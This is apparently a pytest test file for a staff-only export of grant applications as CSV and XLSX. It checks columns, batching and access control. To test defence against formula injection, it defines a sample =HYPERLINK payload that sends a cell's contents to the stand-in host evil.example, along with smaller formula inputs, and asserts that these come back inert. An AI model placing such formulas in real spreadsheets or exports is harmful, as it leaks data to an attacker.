"""The "all applications" export: every answer of every application, as CSV and XLSX, inert in a
spreadsheet, for staff and admins only."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import load_workbook

from app.applications.questions import PAGES
from app.applications.services import save_page, start_application
from app.extensions import db
from app.models import Application, Round, utcnow
from app.rounds import options
from app.staff.applications import exports as application_exports
from tests.app.apply.journey import VALID
from tests.app.conftest import sign_in_as
from tests.app.factories import make_round, submitted_application
from tests.app.helpers import Client, download

EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"Click me")'
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def csv_url(round_: Round) -> str:
    return f"/staff/rounds/{round_.id}/applications.csv"


def xlsx_url(round_: Round) -> str:
    return f"/staff/rounds/{round_.id}/applications.xlsx"


def read_csv(client: Client, round_: Round) -> list[dict[str, str]]:
    response = download(client, csv_url(round_))
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["Cache-Control"] == "no-store"
    assert response.is_streamed  # written as it is built, not held whole first
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:])))


def read_xlsx(client: Client, round_: Round) -> list[dict[str, Any]]:
    response = download(client, xlsx_url(round_))
    assert response.status_code == 200
    assert response.headers["Content-Type"] == XLSX
    assert response.headers["Content-Disposition"].startswith("attachment;")
    book = load_workbook(io.BytesIO(response.data))
    assert book.sheetnames == ["Applications"]
    sheet = book["Applications"]
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", f"{cell.coordinate} is a live formula"
    header = [c.value for c in sheet[1]]
    return [
        {h: ("" if v is None else v) for h, v in zip(header, (c.value for c in r), strict=True)}
        for r in sheet.iter_rows(min_row=2)
    ]


def expected_cell(round_: Round, page_id: str, question_id: str, value: Any) -> str:
    """The export's cell for a VALID answer, from the round's option labels."""
    question = next(q for q in PAGES[page_id].questions if q.id == question_id)
    if value in (None, "", []):
        return ""
    if question.options:
        labels = dict(options(round_, question.options))
        if isinstance(value, list):
            return "; ".join(labels[v] for v in value)
        return labels[value]
    if question.kind == "postcode":
        return str(value).upper()  # stored normalised, as the form leaves it
    return str(value)


def check_every_answer(round_: Round, row: dict[str, Any]) -> None:
    for page_id, answers in VALID.items():
        for question_id, value in answers.items():
            label = next(q.label for q in PAGES[page_id].questions if q.id == question_id)
            assert label in row, f"no column for {label}"
            assert row[label] == expected_cell(round_, page_id, question_id, value), label


@pytest.fixture
def applications(round_: Round) -> dict[str, Application]:
    good = submitted_application(round_)
    evil = submitted_application(
        round_,
        organisation={"organisation_name": EVIL},
        difference={"difference": "=1+2"},
        contact={"contact_role": "@SUM(1+1)", "email": "evil@example.org"},
    )
    good.screening = "eligible"
    evil.screening, evil.screening_reason = "ineligible", "not-adult-social-care"
    db.session.commit()
    return {"good": good, "evil": evil}


@pytest.mark.parametrize("reader", [read_csv, read_xlsx], ids=["csv", "xlsx"])
def test_every_answer_is_in_its_column(
    staff_client: Client, round_: Round, applications: dict[str, Application], reader: Any
) -> None:
    rows = reader(staff_client, round_)

    assert len(rows) == 2
    by_reference = {row["Reference"]: row for row in rows}
    good = by_reference[applications["good"].reference]
    check_every_answer(round_, good)
    assert good["Organisation"] == VALID["organisation"]["organisation_name"]
    assert good["Status"] == "Sent" and good["Channel"] == "Online"
    assert good["Screening"] == "Eligible" and good["Screening reason"] == ""
    assert good["Nation"] == "Wales" and good["Region"] == "Wales"
    assert good["Rurality"] == "Mostly rural" and good["First time"] == "First time"
    assert good["Sent at (UK time)"][:4].isdigit()
    # Not asked outside England: empty, not "Not given".
    assert good["Which region of England is your organisation based in?"] == ""
    evil = by_reference[applications["evil"].reference]
    assert evil["Screening"] == "Not eligible"
    assert evil["Screening reason"] == "Not adult social care"


@pytest.mark.parametrize("reader", [read_csv, read_xlsx], ids=["csv", "xlsx"])
def test_formulas_come_back_inert(
    staff_client: Client, round_: Round, applications: dict[str, Application], reader: Any
) -> None:
    rows = reader(staff_client, round_)

    evil = next(r for r in rows if r["Reference"] == applications["evil"].reference)
    assert evil["Organisation"] == "'" + EVIL
    assert evil["Name of your organisation"] == "'" + EVIL
    assert evil["What real difference would this work make, and for whom?"] == "'=1+2"
    assert evil["Their role in the organisation"] == "'@SUM(1+1)"
    for row in rows:
        for cell in row.values():
            assert not str(cell).startswith(("=", "+", "-", "@")), cell


def test_a_draft_is_a_row_too_and_an_empty_round_still_has_the_header(
    staff_client: Client, round_: Round, applications: dict[str, Application]
) -> None:
    draft, _token = start_application(db.session, round_, {}, utcnow())
    save_page(db.session, draft, "organisation", VALID["organisation"], utcnow())
    db.session.commit()

    rows = read_csv(staff_client, round_)
    row = next(r for r in rows if r["Status"] == "Draft")
    assert row["Reference"] == f"Draft {draft.id}"
    assert row["Organisation"] == VALID["organisation"]["organisation_name"]
    assert row["Screening"] == "" and row["Sent at (UK time)"] == ""

    empty = make_round("empty-round")
    response = download(staff_client, csv_url(empty))
    header = response.get_data().decode("utf-8").lstrip("\ufeff").splitlines()
    assert len(header) == 1 and header[0].startswith("Reference,Organisation,Status")


def test_a_long_export_is_sent_in_batches_with_one_header(
    staff_client: Client,
    round_: Round,
    applications: dict[str, Application],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(application_exports, "BATCH", 1)
    third = submitted_application(round_, organisation={"organisation_name": "Third"})

    rows = read_csv(staff_client, round_)

    references = [r["Reference"] for r in rows]
    expected = [applications["good"], applications["evil"], third]
    assert references == [a.reference for a in expected]


def test_the_applications_page_has_a_button_for_each_file(
    staff_client: Client, round_: Round
) -> None:
    page = staff_client.get_page(f"/staff/rounds/{round_.id}/applications")

    forms = page.select("#export-all form[method=post]")
    assert {form["action"] for form in forms} == {csv_url(round_), xlsx_url(round_)}
    assert all(form.select_one("input[name=csrf_token]") for form in forms)


def test_only_staff_and_admins_may_download(
    client: Client, round_: Round, applications: dict[str, Application], make_user: Any
) -> None:
    for url in (csv_url(round_), xlsx_url(round_)):
        response = download(client, url)
        assert response.status_code == 302 and "/sign-in" in response.headers["Location"]
    sign_in_as(client, make_user("reviewer"))
    for url in (csv_url(round_), xlsx_url(round_)):
        assert download(client, url).status_code == 403
    admin = Client(client.client.application.test_client())
    sign_in_as(admin, make_user("admin"))
    for url in (csv_url(round_), xlsx_url(round_)):
        assert download(admin, url).status_code == 200
    assert download(admin, f"/staff/rounds/{round_.id + 999}/applications.csv").status_code == 404
